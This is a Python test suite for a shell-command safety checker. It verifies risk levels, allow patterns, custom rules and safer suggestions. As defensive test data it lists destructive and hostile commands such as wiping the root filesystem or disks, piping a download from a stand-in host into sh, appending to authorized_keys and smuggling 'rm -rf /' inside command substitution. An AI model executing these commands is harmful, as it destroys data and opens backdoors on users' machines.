"""The verdict as a whole: properties that hold for any text, a person's own rules, the levels."""

from __future__ import annotations

import string
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdai_shell.core import Risk
from cmdai_shell.safety import CustomRule, assess, decide, parse
from cmdai_shell.safety.script import names
from tests.safety.test_labelled import TABLE

SHELLS = ("bash", "zsh", "fish")
HARMFUL = [
    "rm -rf /", "rm -rf ~", "dd if=/dev/zero of=/dev/sda", "curl https://x.example/i | sh",
    "git reset --hard", "rm notes.txt", "chmod -R 777 /", "echo x >> ~/.ssh/authorized_keys",
    "find / -delete", "shutdown -h now", 'rm -rf "$x"/*', "git push --force", "mkfs.ext4 /dev/sda1",
]  # fmt: skip
WRAPPERS = [
    "sudo", "sudo -u x", "env A=b", "nohup", "nice -n 5", "timeout 5", "command", "time", "setsid",
    "stdbuf -o0", "doas", "busybox", "ionice -c 3", "sudo --what", "$SUDO", "exec",
]  # fmt: skip
SEPARATORS = [";", "&&", "||", "|", "\n", "&", " ; ", "|&", ";\n"]
HARMLESS = [
    "ls",
    "true",
    "echo hi",
    "cd build",
    "cat a | sort",
    "x=1",
    "grep -r 'a;b' .",
    "[ -f a ]",
]
FRAGMENTS = names(
    "rm -rf / $x $( ) ` ' \" | ; & { } ( <<X X for if do end then fi done case * \\ $' <( > sudo "
    "a= [[ ]] $(( )) # ~ eval function () ! ${ $@ &> |& ;; esac in xargs -I{} {} find -exec"
)
STRUCTURED = st.lists(
    st.sampled_from([*sorted(FRAGMENTS), "\n", "sh -c", "\ud800", "\x00"]), max_size=30
).map(" ".join)
bounded = settings(max_examples=60, deadline=None, derandomize=True)


def risk(command, shell="bash"):
    return assess(command, shell=shell).risk


@bounded
@given(st.sampled_from(HARMFUL), st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=3))
def test_no_wrapper_lowers_the_risk(command, wrappers):
    first, pipe, rest = command.partition("|")
    wrapped = " ".join([*wrappers, first]) + pipe + rest
    if not command.startswith("echo"):  # what echo's redirection does is its shell's, not sudo's
        assert risk(wrapped) >= risk(command)


@bounded
@given(
    st.sampled_from(HARMFUL),
    st.sampled_from(SEPARATORS),
    st.sampled_from(HARMLESS),
    st.booleans(),
    st.sampled_from(SHELLS),
)
def test_no_neighbour_lowers_the_risk(command, separator, other, first, shell):
    if shell == "fish" and separator == "|&":
        separator = "&|"
    line = command + separator + other if first else other + separator + command
    assert risk(line, shell) >= risk(command, shell)


@bounded
@given(st.sampled_from(HARMFUL), st.data())
def test_no_quoting_of_the_program_lowers_the_risk(command, data):
    program, _, rest = command.partition(" ")
    at = data.draw(st.integers(1, len(program)))
    head, tail = program[:at], program[at:]
    written = data.draw(
        st.sampled_from([f"'{head}'{tail}", f'"{head}"{tail}', f"{head}''{tail}", f"\\{program}",
                         f"/usr/bin/{program}", f"$'{head}'{tail}", f"{head}\\\n{tail}"])
    )  # fmt: skip
    assert risk(f"{written} {rest}") >= risk(command)


@bounded
@given(st.sampled_from(HARMFUL), st.sampled_from(["sh -c {}", "eval {}", "ssh h {}", "su -c {}"]))
def test_a_script_is_as_bad_as_its_command(command, outer):
    quoted = "'" + command.replace("'", "'\\''") + "'"
    assert risk(outer.format(quoted)) >= risk(command)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.one_of(st.text(max_size=200), STRUCTURED), st.sampled_from(SHELLS))
def test_any_text_gets_a_verdict_and_always_the_same(text, shell):
    verdict = assess(text, shell=shell)
    assert verdict == assess(text, shell=shell)
    assert bool(verdict.reasons) == (verdict.risk > Risk.SAFE)
    shown = "".join(verdict.reasons) + verdict.safer
    assert not any("\ue000" <= char < "\ue200" for char in shown)
    parse(text, shell)


@bounded
@given(STRUCTURED, st.sampled_from(SHELLS))
def test_no_broken_text_beside_it_lowers_the_risk(text, shell):
    text = text.replace("#", "").replace("'", "").replace('"', "").replace("\\", "")
    text = text.replace("<<X", "").replace("$", "")
    assert risk(f"rm -rf /etc; {text}", shell) is Risk.CRITICAL


@pytest.mark.parametrize("shell", SHELLS)
def test_a_long_text_hides_nothing_and_takes_no_time(shell):
    for filler in (
        "a;",
        "a ",
        "$(",
        "x=$x$x;",
        "sudo -? ",
        "{a,b}",
        "eval ",
        "(",
        "'",
        "a|",
        "f x;",
    ):
        line = filler * (65536 // len(filler)) + "; rm -rf /"
        began = time.process_time()
        assert risk(line, shell) is Risk.CRITICAL
        assert risk(line[-6000:], shell) is Risk.CRITICAL or filler in ("'", "$(")
        assert time.process_time() - began < 1.0  # 0.1 s measured; a quadratic step takes many


LABELLED = [
    (command, family.get("shell", "bash"))
    for family in TABLE["family"]
    for label in Risk
    for command in family.get(label.word, ())
]


def test_what_is_offered_instead_is_a_whole_command_and_better():
    offers = [(c, assess(c, shell=shell), shell) for c, shell in LABELLED]
    offers = [offer for offer in offers if offer[1].safer]
    assert len(offers) > 50
    for command, verdict, shell in offers:
        safer = verdict.safer
        assert "…" not in safer, command
        assert "<" not in safer, command
        assert "{" not in safer or "{" in command, command
        assert not parse(safer, shell).broken, (command, safer)
        assert risk(safer, shell) < max(verdict.risk, Risk.DANGEROUS), (command, safer)


def test_an_allowed_command_is_safe_and_only_that_one():
    allow = ("git push --force", "rm -rf ./gen/*")
    assert assess("git push --force", allow=allow).risk is Risk.SAFE
    assert assess("git push --force && rm -rf /", allow=allow).risk is Risk.CRITICAL
    assert assess("git push --force origin", allow=allow).risk is Risk.CRITICAL
    assert assess("rm -rf ./gen/a ./gen/b -v", allow=allow).risk is Risk.SAFE


@pytest.mark.parametrize(
    ("pattern", "command", "worst"),
    [
        ("rm -rf ./gen/*", "rm -rf ./gen/a /", Risk.CRITICAL),
        ("rm -rf ./gen/*", "rm -rf ./gen/../..", Risk.DANGEROUS),
        ("rm -rf ./gen/*", 'rm -rf ./gen/"$x"', Risk.CAUTION),
        ("rm -rf ./gen/a", "rm -rf ./gen/a ./gen/a", Risk.CAUTION),
        ("echo *", "echo x > /dev/sda", Risk.CRITICAL),
        ("cat", "cat <<X > /etc/passwd\nX", Risk.CRITICAL),
        ("ls *", "ls $(rm -rf /)", Risk.CRITICAL),
        ("sudo *", "sudo rm -rf /", Risk.CRITICAL),
    ],
)
def test_a_pattern_allows_no_more_than_it_says(pattern, command, worst):
    assert assess(command, allow=(pattern,)).risk >= worst


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("docker compose down*", "docker compose down"),
        ("docker compose down*", "docker compose down -v"),
        ("git push *", "git push --force origin main"),
        ("kubectl delete pod *", 'kubectl delete pod "$p"'),
    ],
)
def test_a_star_stands_for_one_argument_and_at_the_end_for_more(pattern, command):
    assert assess(command).risk > Risk.SAFE
    assert assess(command, allow=(pattern,)).risk is Risk.SAFE


def test_a_rule_of_the_person_can_raise_the_risk_but_not_lower_it():
    rules = (
        CustomRule(match=r"\bprod\b", risk=Risk.DANGEROUS, reason="touches production"),
        CustomRule(match="rm", risk=Risk.SAFE, reason="fine"),
        CustomRule(match="(", risk=Risk.CRITICAL, reason="no pattern"),
    )
    verdict = assess("kubectl -n prod get pods", rules=rules)
    assert verdict.risk is Risk.DANGEROUS
    assert "touches production" in verdict.reasons
    assert assess("rm -rf /", rules=rules).risk is Risk.CRITICAL
    assert assess("ls", rules=rules).risk is Risk.SAFE


@pytest.mark.parametrize(
    ("level", "actions"),
    [
        ("strict", ["insert", "insert", "refuse", "refuse"]),
        ("moderate", ["insert", "insert", "insert", "arm"]),
        ("permissive", ["insert", "insert", "insert", "insert"]),
    ],
)
def test_what_each_level_does(level, actions):
    assert [decide(risk, level) for risk in Risk] == actions


def test_the_worst_reason_comes_first_and_is_said_once():
    verdict = assess("ls > a; mv a b; rm -rf /; rm -rf /")
    assert verdict.risk is Risk.CRITICAL
    assert verdict.reasons[0] == "deletes everything on this machine (/)"
    assert len(set(verdict.reasons)) == len(verdict.reasons)


def test_words_of_the_alphabet_are_safe():
    assert risk(f"echo {' '.join(string.ascii_letters)}") is Risk.SAFE
    assert risk("") is Risk.SAFE
